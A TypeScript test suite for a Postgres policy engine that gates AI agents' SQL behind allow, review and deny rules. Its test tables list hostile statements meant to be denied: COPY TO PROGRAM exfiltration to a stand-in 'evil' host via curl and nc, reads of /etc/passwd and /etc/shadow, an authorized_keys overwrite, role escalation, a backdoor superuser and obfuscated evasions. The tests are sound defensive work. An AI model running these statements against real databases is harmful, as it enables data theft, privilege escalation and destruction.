import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { BUILTIN_POLICY_SOURCE, BUILTIN_POLICY_YAML } from './builtin-policy.js';
import { parsePolicyDocument, type IdentityKindName } from './policy-document.js';
import { PolicyEngine, type DecisionInput } from './policy-engine.js';
import { analyseStatement, loadSqlParser } from './sql-analysis.js';

await loadSqlParser();

function input(kind: IdentityKindName, sql: string, extra: { groups?: string[]; target?: string; labels?: Record<string, string> } = {}): DecisionInput {
  return {
    identity: { id: `${kind}-1`, kind, groups: extra.groups ?? [] },
    target: { name: extra.target ?? 'billing', type: 'postgres', labels: extra.labels ?? {} },
    statement: analyseStatement(sql),
  };
}

describe('the built-in policy', () => {
  const engine = new PolicyEngine(parsePolicyDocument(BUILTIN_POLICY_YAML, BUILTIN_POLICY_SOURCE).document);

  /** [identity kind, statement, effect, deciding rule] */
  const TABLE: readonly [IdentityKindName, string, string, string][] = [
    ['agent', 'SELECT * FROM invoices', 'allow', 'agents-read'],
    ['agent', 'select count(*) from public.invoices i join customers c on c.id = i.customer_id', 'allow', 'agents-read'],
    ['agent', 'SHOW search_path', 'allow', 'agents-read'],
    ['agent', 'EXPLAIN SELECT * FROM invoices', 'allow', 'agents-read'],
    ['agent', 'EXPLAIN DELETE FROM invoices', 'allow', 'agents-read'],
    ['agent', 'BEGIN', 'allow', 'agents-read'],
    ['agent', 'COMMIT', 'allow', 'agents-read'],
    ['agent', 'SET statement_timeout = 5000', 'allow', 'agents-read'],
    ['agent', 'FETCH 10 FROM c', 'allow', 'agents-read'],
    ['agent', 'DECLARE c CURSOR FOR SELECT * FROM invoices', 'allow', 'agents-read'],
    ['agent', 'INSERT INTO notes (body) VALUES (\'x\')', 'review', 'agents-writes-need-review'],
    ['agent', 'UPDATE invoices SET paid = true WHERE id = 7', 'review', 'agents-writes-need-review'],
    ['agent', 'DELETE FROM invoices WHERE id = 7', 'review', 'agents-writes-need-review'],
    ['agent', 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a', 'review', 'agents-writes-need-review'],
    ['agent', 'COPY invoices TO STDOUT', 'review', 'agents-writes-need-review'],
    ['agent', 'CALL archive_invoices(2024)', 'review', 'agents-writes-need-review'],
    ['agent', 'EXPLAIN ANALYZE UPDATE invoices SET paid = true WHERE id = 1', 'review', 'agents-writes-need-review'],
    ['agent', 'PREPARE p AS UPDATE invoices SET paid = true WHERE id = $1', 'review', 'agents-writes-need-review'],
    ['agent', 'WITH u AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING *) SELECT * FROM u', 'review', 'agents-writes-need-review'],
    ['agent', 'UPDATE invoices SET paid = true', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'DELETE FROM invoices', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'DELETE FROM invoices WHERE true', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'DELETE FROM invoices WHERE 1 = 1', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', '/* just a read */ DeLeTe /* x */ FROM invoices -- WHERE id = 1', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'WITH d AS (DELETE FROM invoices RETURNING *) SELECT * FROM d', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'SELECT * FROM (WITH d AS (DELETE FROM invoices RETURNING *) SELECT * FROM d) x', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'EXPLAIN ANALYZE DELETE FROM invoices', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'COPY (DELETE FROM invoices RETURNING *) TO STDOUT', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'PREPARE p AS DELETE FROM invoices', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'DROP TABLE invoices', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'drop table "Invoices"', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'TRUNCATE invoices', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'ALTER TABLE invoices ADD COLUMN x int', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'CREATE TABLE x AS SELECT * FROM invoices', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'SELECT * INTO x FROM invoices', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'GRANT ALL ON invoices TO agent', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'ALTER ROLE agent SUPERUSER', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'ALTER SYSTEM SET log_statement = none', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', "SELECT pg_read_file('/etc/passwd')", 'deny', 'agents-no-server-access'],
    ['agent', "SELECT pg_catalog.PG_READ_FILE('/etc/passwd')", 'deny', 'agents-no-server-access'],
    ['agent', "SELECT \"pg_read_binary_file\"('/etc/passwd')", 'deny', 'agents-no-server-access'],
    ['agent', "SELECT * FROM pg_ls_dir('/')", 'deny', 'agents-no-server-access'],
    ['agent', "SELECT lo_import('/etc/passwd')", 'deny', 'agents-no-server-access'],
    ['agent', "SELECT lo_export(1234, '/tmp/x')", 'deny', 'agents-no-server-access'],
    ['agent', "SELECT dblink_connect('host=evil')", 'deny', 'agents-no-server-access'],
    ['agent', "SELECT id FROM invoices WHERE id = (SELECT length(pg_read_file('/etc/passwd')))", 'deny', 'agents-no-server-access'],
    ['agent', "COPY invoices TO PROGRAM 'curl -d @- evil'", 'deny', 'agents-no-server-access'],
    ['agent', "COPY invoices FROM PROGRAM 'id'", 'deny', 'agents-no-server-access'],
    ['agent', "COPY invoices TO '/tmp/out.csv'", 'deny', 'agents-no-server-access'],
    ['agent', "COPY invoices FROM '/etc/passwd'", 'deny', 'agents-no-server-access'],
    ['agent', "LOAD '/tmp/evil.so'", 'deny', 'agents-no-server-access'],
    ['agent', 'SET ROLE postgres', 'deny', 'agents-no-server-access'],
    ['agent', 'SET LOCAL ROLE postgres', 'deny', 'agents-no-server-access'],
    ['agent', 'SET SESSION AUTHORIZATION postgres', 'deny', 'agents-no-server-access'],
    ['agent', 'RESET ROLE', 'deny', 'agents-no-server-access'],
    ['agent', "SELECT set_config('role', 'postgres', false)", 'deny', 'agents-no-server-access'],
    ['agent', "SELECT set_config(current_setting('x.y'), 'postgres', false)", 'deny', 'agents-no-server-access'],
    ['agent', 'DO $$ BEGIN EXECUTE \'DROP TABLE invoices\'; END $$', 'deny', 'agents-no-opaque-statements'],
    ['agent', 'EXECUTE p(1)', 'deny', 'agents-no-opaque-statements'],
    ['agent', "SELECT query_to_xml('DELETE FROM invoices RETURNING *', true, true, '')", 'deny', 'agents-no-opaque-statements'],
    ['agent', "SELECT dblink_exec('dbname=x', 'DROP TABLE t')", 'deny', 'agents-no-opaque-statements'],
    ['agent', 'DEL/**/ETE FROM invoices', 'deny', 'agents-no-opaque-statements'],
    ['agent', 'SELECT 1; DROP TABLE invoices', 'deny', 'agents-no-opaque-statements'],
    ['agent', 'VACUUM invoices', 'deny', 'default'],
    ['agent', 'NOTIFY chan', 'deny', 'default'],
    ['agent', 'LOCK TABLE invoices', 'deny', 'default'],
    ['human', 'SELECT * FROM invoices', 'allow', 'default'],
    ['human', 'DROP TABLE invoices', 'allow', 'default'],
    ['human', 'DELETE FROM invoices', 'allow', 'default'],
    ['human', 'SET ROLE postgres', 'allow', 'default'],
    ['human', 'DO $$ BEGIN PERFORM 1; END $$', 'allow', 'humans-may-run-opaque-statements'],
    ['human', 'SELEKT 1', 'allow', 'humans-may-run-opaque-statements'],
    ['service', 'SELECT 1', 'deny', 'default'],
    ['service', 'DO $$ BEGIN END $$', 'deny', 'default'],
    // Evasions: what the text looks like must not change what the statement is judged to do.
    ['agent', 'DELETE/**/FROM/**/invoices', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'DELETE\n\t FROM\n invoices\n', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'delete from invoices -- where id = 1', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'delete from invoices /* where id = 1 */', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'DELETE FROM invoices WHERE /* id = 1 */ true', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', "DELETE FROM invoices WHERE 'a' = 'a'", 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'DELETE FROM invoices WHERE NOT false', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'DELETE FROM invoices WHERE now() IS NOT NULL', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'DELETE FROM invoices WHERE $1', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'DELETE FROM invoices WHERE id = $1', 'review', 'agents-writes-need-review'],
    ['agent', 'UPDATE "invoices" SET "paid" = true', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'UPDATE public."Invoices" SET paid = true', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'UPDATE U&"\\0069nvoices" SET paid = true', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'update invoices set paid = true from customers', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'WITH x AS (SELECT 1) DELETE FROM invoices', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'WITH a AS (SELECT 1), b AS (DELETE FROM invoices RETURNING 1) SELECT * FROM a', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'WITH a AS (DELETE FROM invoices WHERE id = 1 RETURNING 1), b AS (UPDATE t SET x = 1 RETURNING 1) SELECT 1', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'SELECT * FROM (SELECT * FROM (WITH d AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM d) x) y', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'SELECT 1 WHERE EXISTS (WITH d AS (DELETE FROM invoices RETURNING 1) SELECT 1 FROM d)', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'SELECT 1 UNION ALL (WITH d AS (DELETE FROM invoices RETURNING 1) SELECT 1 FROM d)', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'WITH d AS (DELETE FROM invoices WHERE id = 1 RETURNING *) SELECT * FROM d', 'review', 'agents-writes-need-review'],
    ['agent', 'WITH i AS (INSERT INTO log VALUES (1) RETURNING *) SELECT * FROM i', 'review', 'agents-writes-need-review'],
    ['agent', 'WITH m AS MATERIALIZED (DELETE FROM invoices WHERE id = 2 RETURNING *) SELECT * FROM m', 'review', 'agents-writes-need-review'],
    ['agent', 'SELECT * FROM invoices; DELETE FROM invoices', 'deny', 'agents-no-opaque-statements'],
    ['agent', 'SELECT 1;DROP TABLE invoices;', 'deny', 'agents-no-opaque-statements'],
    ['agent', 'SELECT 1 /* ; */ ; DROP TABLE invoices', 'deny', 'agents-no-opaque-statements'],
    ["agent", "SELECT ';' ; TRUNCATE invoices", 'deny', 'agents-no-opaque-statements'],
    ['agent', "SELECT 'DROP TABLE invoices; --'", 'allow', 'agents-read'],
    ['agent', 'SELECT $$; DELETE FROM invoices; $$', 'allow', 'agents-read'],
    ['agent', 'SELECT $tag$ DROP TABLE invoices $tag$ AS x', 'allow', 'agents-read'],
    ['agent', "SELECT E'\\'; DELETE FROM invoices; --'", 'allow', 'agents-read'],
    ['agent', "SELECT U&'\\0044ROP TABLE x'", 'allow', 'agents-read'],
    ['agent', 'SELECT "DELETE" FROM invoices', 'allow', 'agents-read'],
    ['agent', 'SELECT * FROM "delete"', 'allow', 'agents-read'],
    ['agent', 'SELECT * FROM invoices AS "; DROP TABLE x; --"', 'allow', 'agents-read'],
    ['agent', 'DO $$ BEGIN DELETE FROM invoices; END $$', 'deny', 'agents-no-opaque-statements'],
    ['agent', 'DO LANGUAGE plpgsql $x$ BEGIN PERFORM 1; END $x$', 'deny', 'agents-no-opaque-statements'],
    ['agent', 'do $$ begin execute format(\'drop table %I\', \'invoices\'); end $$', 'deny', 'agents-no-opaque-statements'],
    ['agent', 'EXECUTE stmt', 'deny', 'agents-no-opaque-statements'],
    ['agent', "SELECT query_to_xml('DROP TABLE invoices', true, true, '')", 'deny', 'agents-no-opaque-statements'],
    ['agent', "SELECT pg_catalog.query_to_xml_and_xmlschema('SELECT 1', true, true, '')", 'deny', 'agents-no-opaque-statements'],
    ['agent', 'SELECT 1 FROM invoices WHERE id = 1 FOR UPDATE SKIP LOCKED;;', 'allow', 'agents-read'],
    ['agent', '\u00a0SELECT 1', 'deny', 'agents-no-opaque-statements'],
    ['agent', 'SELEC\u0054 * FROM invoices', 'allow', 'agents-read'],
    ['agent', "SELECT pg_read_file(E'/etc/passwd')", 'deny', 'agents-no-server-access'],
    ['agent', "SELECT \"pg_catalog\".\"pg_read_file\"('/etc/passwd')", 'deny', 'agents-no-server-access'],
    ['agent', "SELECT U&\"pg\\005Fread\\005Ffile\"('/etc/passwd')", 'deny', 'agents-no-server-access'],
    ['agent', "SELECT pg_read_file /* x */ ('/etc/passwd')", 'deny', 'agents-no-server-access'],
    ['agent', "SELECT * FROM ROWS FROM (pg_ls_dir('/'), generate_series(1, 3))", 'deny', 'agents-no-server-access'],
    ['agent', "SELECT array(SELECT pg_ls_dir('/'))", 'deny', 'agents-no-server-access'],
    ['agent', "SELECT CASE WHEN true THEN pg_read_binary_file('/etc/shadow') END", 'deny', 'agents-no-server-access'],
    ['agent', "SELECT coalesce(NULL, lo_import('/etc/passwd'))", 'deny', 'agents-no-server-access'],
    ['agent', "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", 'deny', 'agents-no-opaque-statements'],
    ['agent', "SELECT pg_stat_file('/etc/passwd')", 'deny', 'agents-no-server-access'],
    ['agent', 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'deny', 'agents-no-server-access'],
    ['agent', 'SELECT pg_reload_conf()', 'deny', 'agents-no-server-access'],
    ['agent', "INSERT INTO notes SELECT pg_read_file('/etc/passwd')", 'deny', 'agents-no-server-access'],
    ['agent', "UPDATE notes SET body = pg_read_file('/etc/passwd') WHERE id = 1", 'deny', 'agents-no-server-access'],
    ['agent', "WITH f AS (SELECT pg_read_file('/etc/passwd') AS x) SELECT * FROM f", 'deny', 'agents-no-server-access'],
    ['agent', "EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')", 'deny', 'agents-no-server-access'],
    ['agent', "copy invoices to program $$curl -d @- evil$$", 'deny', 'agents-no-server-access'],
    ['agent', "COPY (SELECT * FROM invoices) TO PROGRAM 'nc evil 80'", 'deny', 'agents-no-server-access'],
    ['agent', "COPY invoices (id, total) FROM PROGRAM 'cat /etc/passwd' WITH (FORMAT csv)", 'deny', 'agents-no-server-access'],
    ['agent', "COPY invoices TO E'/var/lib/postgresql/.ssh/authorized_keys'", 'deny', 'agents-no-server-access'],
    ['agent', 'COPY invoices FROM STDIN', 'review', 'agents-writes-need-review'],
    ['agent', 'COPY (SELECT 1) TO STDOUT', 'review', 'agents-writes-need-review'],
    ['agent', 'set role postgres', 'deny', 'agents-no-server-access'],
    ['agent', 'SET "role" = postgres', 'deny', 'agents-no-server-access'],
    ['agent', 'SET ROLE NONE', 'deny', 'agents-no-server-access'],
    ['agent', 'set session authorization default', 'deny', 'agents-no-server-access'],
    ['agent', 'RESET SESSION AUTHORIZATION', 'deny', 'agents-no-server-access'],
    ['agent', 'RESET ALL', 'deny', 'agents-no-server-access'],
    ['agent', "SELECT set_config('ROLE', 'postgres', false)", 'deny', 'agents-no-server-access'],
    ['agent', "SELECT set_config('session_authorization', 'postgres', false)", 'deny', 'agents-no-server-access'],
    ['agent', "SELECT pg_catalog.set_config('role'::text, 'postgres', true)", 'deny', 'agents-no-server-access'],
    ['agent', "SELECT set_config('search_path', 'evil', false)", 'allow', 'agents-read'],
    ['agent', 'SET search_path = evil, public', 'allow', 'agents-read'],
    ['agent', 'SET application_name = \'x\'', 'allow', 'agents-read'],
    ['agent', 'SHOW ALL', 'allow', 'agents-read'],
    ['agent', 'START TRANSACTION READ ONLY', 'allow', 'agents-read'],
    ['agent', 'SAVEPOINT s1', 'allow', 'agents-read'],
    ['agent', 'ROLLBACK', 'allow', 'agents-read'],
    ['agent', 'DEALLOCATE ALL', 'allow', 'agents-read'],
    ['agent', 'DISCARD ALL', 'allow', 'agents-read'],
    ['agent', 'CLOSE c', 'allow', 'agents-read'],
    ['agent', 'EXPLAIN (FORMAT json) SELECT * FROM invoices', 'allow', 'agents-read'],
    ['agent', 'EXPLAIN (ANALYZE off) DELETE FROM invoices', 'allow', 'agents-read'],
    ['agent', 'EXPLAIN (ANALYZE on) DELETE FROM invoices', 'deny', 'agents-no-unfiltered-writes'],
    ['agent', 'EXPLAIN (ANALYZE, FORMAT json) DELETE FROM invoices WHERE id = 1', 'review', 'agents-writes-need-review'],
    ['agent', 'PREPARE q(int) AS DELETE FROM invoices WHERE id = $1', 'review', 'agents-writes-need-review'],
    ['agent', 'PREPARE q AS DROP TABLE invoices', 'deny', 'agents-no-opaque-statements'],
    ['agent', 'DECLARE c CURSOR WITH HOLD FOR SELECT * FROM invoices', 'allow', 'agents-read'],
    ['agent', 'CREATE TEMP TABLE scratch (id int)', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'CREATE OR REPLACE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM invoices $$', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'CREATE EXTENSION IF NOT EXISTS dblink', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM invoices', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'ALTER TABLE invoices DISABLE TRIGGER ALL', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'DROP TABLE IF EXISTS invoices CASCADE', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'drop /* harmless */ table invoices', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'DROP DATABASE billing', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'TRUNCATE ONLY invoices RESTART IDENTITY', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'truncate table "invoices"', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'REVOKE ALL ON invoices FROM PUBLIC', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'CREATE ROLE backdoor LOGIN SUPERUSER PASSWORD \'x\'', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'ALTER USER agent WITH SUPERUSER', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'GRANT pg_read_server_files TO agent', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO agent', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'REFRESH MATERIALIZED VIEW totals', 'deny', 'agents-no-schema-or-privilege-changes'],
    ['agent', 'CLUSTER invoices', 'deny', 'default'],
    ['agent', 'REINDEX TABLE invoices', 'deny', 'default'],
    ['agent', 'CHECKPOINT', 'deny', 'default'],
    ['agent', 'LISTEN events', 'allow', 'agents-read'],
    ['human', 'TRUNCATE invoices', 'allow', 'default'],
    ['human', 'EXECUTE p', 'allow', 'humans-may-run-opaque-statements'],
    ['human', "COPY invoices TO PROGRAM 'gzip > /tmp/x.gz'", 'allow', 'default'],
    ['service', 'UPDATE invoices SET paid = true WHERE id = 1', 'deny', 'default'],
  ];

  for (const [kind, sql, effect, rule] of TABLE) {
    it(`${kind}: ${sql} -> ${effect} by ${rule}`, () => {
      const decision = engine.decide(input(kind, sql));
      assert.deepEqual([decision.effect, decision.rule], [effect, rule]);
      if (effect !== 'allow') assert.ok(decision.reason.length > 20, 'a denied or held caller gets a sentence');
    });
  }

  it('a review carries the reviewer group, quorum and timeout', () => {
    const decision = engine.decide(input('agent', 'DELETE FROM invoices WHERE id = 1'));
    assert.deepEqual(decision.review, { group: 'dba', quorum: 1, timeoutSeconds: 900 });
    assert.equal(decision.reason, 'agent writes need the approval of a DBA');
  });

  it('a service is denied with a sentence naming its kind and the statement kind', () => {
    assert.equal(
      engine.decide(input('service', 'SELECT 1')).reason,
      'no policy rule allows service identities to run this select statement, and the default for service identities is deny',
    );
  });

  it('depends_on names exactly the inputs read, and the key the statement is cached by', () => {
    // Every rule asks for agents or humans first: a service's decision depends on its kind alone.
    assert.deepEqual(engine.decide(input('service', 'SELECT 1')).dependsOn, ['identity.kind']);
    assert.deepEqual(engine.decide(input('agent', 'SELECT 1')).dependsOn, [
      'command.fingerprint',
      'identity.kind',
      'statement.flags',
      'statement.has_where',
      'statement.kind',
      'statement.opaque',
    ]);
    // set_config's setting name is a literal the fingerprint drops: cache on the text.
    assert.ok(engine.decide(input('agent', "SELECT set_config('search_path', 'x', false)")).dependsOn.includes('command.text'));
  });
});

describe('rule matching', () => {
  const policy = parsePolicyDocument(
    `
version: 1
default: { agent: deny, human: deny, service: deny }
rules:
  - name: prod-read-only
    priority: 50
    match:
      target: { labels: { env: prod } }
      statement: { kind: [insert, update, delete] }
    effect: deny
    reason: production is read-only
  - name: dba-ddl-review
    priority: 40
    match:
      identity: { kind: [human], groups: [dba, platform] }
      statement: { kind: ddl }
    effect: review
    review: { group: dba-leads, quorum: 2 }
  - name: no-payroll
    priority: 30
    match:
      statement: { reads: [hr.payroll, secret_*] }
    effect: deny
    reason: payroll is off limits
  - name: masked-customers
    priority: 20
    match:
      target: { name: ['analytics-*'] }
      statement: { reads: [customers] }
    effect: allow
    masking_profile: pii
  - name: no-large-objects
    priority: 25
    match:
      statement: { functions: ['lo_*'] }
    effect: deny
    reason: large objects are off limits
  - name: first-of-equals
    priority: 10
    match: { identity: { kind: [service] } }
    effect: allow
  - name: second-of-equals
    priority: 10
    match: { identity: { kind: [service] } }
    effect: deny
    reason: never reached
  - name: opaque-for-ops
    priority: 5
    match:
      identity: { groups: [ops] }
      statement: { opaque: true }
    effect: allow
  - name: everything-for-ops
    priority: 4
    match: { identity: { groups: [ops] } }
    effect: allow
`,
    'test.yaml',
  );
  const engine = new PolicyEngine(policy.document);

  const TABLE: readonly [string, DecisionInput, string, string][] = [
    ['a write to a prod-labelled target', input('human', 'DELETE FROM t WHERE id = 1', { labels: { env: 'prod' } }), 'deny', 'prod-read-only'],
    ['the same write elsewhere', input('human', 'DELETE FROM t WHERE id = 1', { labels: { env: 'dev' } }), 'deny', 'default'],
    ['DDL by a human in dba', input('human', 'CREATE INDEX i ON t (a)', { groups: ['dba'] }), 'review', 'dba-ddl-review'],
    ['DDL by a human in neither group', input('human', 'CREATE INDEX i ON t (a)', { groups: ['dev'] }), 'deny', 'default'],
    ['DDL by an agent in dba', input('agent', 'CREATE INDEX i ON t (a)', { groups: ['dba'] }), 'deny', 'default'],
    ['payroll by its schema', input('agent', 'SELECT * FROM hr.payroll'), 'deny', 'no-payroll'],
    ['payroll unqualified (may resolve to hr)', input('agent', 'SELECT * FROM payroll'), 'deny', 'no-payroll'],
    ['payroll of another schema', input('agent', 'SELECT * FROM eng.payroll'), 'deny', 'default'],
    ['a glob table in a CTE', input('agent', 'WITH x AS (SELECT * FROM public.secret_keys) SELECT * FROM x'), 'deny', 'no-payroll'],
    ['payroll in a subquery', input('agent', 'SELECT 1 WHERE EXISTS (SELECT 1 FROM hr.payroll)'), 'deny', 'no-payroll'],
    ['customers on analytics', input('agent', 'SELECT * FROM customers', { target: 'analytics-eu' }), 'allow', 'masked-customers'],
    ['customers elsewhere', input('agent', 'SELECT * FROM customers', { target: 'billing' }), 'deny', 'default'],
    ['a function glob', input('human', 'SELECT pg_catalog.lo_unlink(1)'), 'deny', 'no-large-objects'],
    ['a function glob, another function', input('human', 'SELECT lower(x) FROM t'), 'deny', 'default'],
    ['equal priorities: document order', input('service', 'SELECT 1'), 'allow', 'first-of-equals'],
    ['opaque with an explicit opaque rule', input('agent', 'DO $$ BEGIN END $$', { groups: ['ops'] }), 'allow', 'opaque-for-ops'],
    ['not opaque with an explicit opaque rule', input('agent', 'SELECT 1', { groups: ['ops'] }), 'allow', 'everything-for-ops'],
  ];
  for (const [name, given, effect, rule] of TABLE) {
    it(`${name} -> ${effect} by ${rule}`, () => {
      const decision = engine.decide(given);
      assert.deepEqual([decision.effect, decision.rule], [effect, rule]);
    });
  }

  it('returns the masking profile and the review of the deciding rule', () => {
    assert.equal(engine.decide(input('agent', 'SELECT * FROM customers', { target: 'analytics-eu' })).maskingProfile, 'pii');
    assert.deepEqual(engine.decide(input('human', 'DROP TABLE t', { groups: ['platform'] })).review, {
      group: 'dba-leads',
      quorum: 2,
      timeoutSeconds: 3600,
    });
  });

  it('an opaque statement allowed by a rule that does not ask for opaque is denied by the guard', () => {
    const decision = engine.decide(input('service', 'EXECUTE p'));
    assert.equal(decision.effect, 'deny');
    assert.equal(decision.rule, 'opaque-guard');
    assert.match(decision.reason, /cannot tell what this statement does: EXECUTE runs prepared statement 'p'.*statement\.opaque: true/);
    const ungrouped = engine.decide(input('agent', 'SELEKT 1', { groups: ['ops'] }));
    assert.equal(ungrouped.rule, 'opaque-for-ops', 'a rule naming opaque statements may allow them');
  });

  it('depends_on lists the label read, not all labels', () => {
    const decision = engine.decide(input('human', 'DELETE FROM t WHERE id = 1', { labels: { env: 'prod', team: 'x' } }));
    assert.deepEqual(decision.dependsOn, ['command.fingerprint', 'statement.kind', 'target.labels.env']);
  });

  it('explain says of every rule whether it matched and why', () => {
    const { decision, evaluations } = engine.explain(input('service', 'SELECT * FROM customers', { target: 'billing' }));
    assert.equal(decision.rule, 'first-of-equals');
    assert.deepEqual(
      evaluations.map((e) => [e.rule, e.matched]),
      [
        ['prod-read-only', false],
        ['dba-ddl-review', false],
        ['no-payroll', false],
        ['no-large-objects', false],
        ['masked-customers', false],
        ['first-of-equals', true],
        ['second-of-equals', true],
        ['opaque-for-ops', false],
        ['everything-for-ops', false],
      ],
    );
    const byName = new Map(evaluations.map((e) => [e.rule, e.detail]));
    assert.equal(byName.get('prod-read-only'), "target.labels.env is not set, not 'prod'; statement.kind is 'select', not one of insert, update, delete");
    assert.equal(byName.get('masked-customers'), "target.name 'billing' matches none of analytics-*");
    assert.equal(byName.get('no-payroll'), 'statement.reads (customers) matches none of hr.payroll, secret_*');
    assert.match(byName.get('second-of-equals')!, /an earlier rule decided/);
  });
});
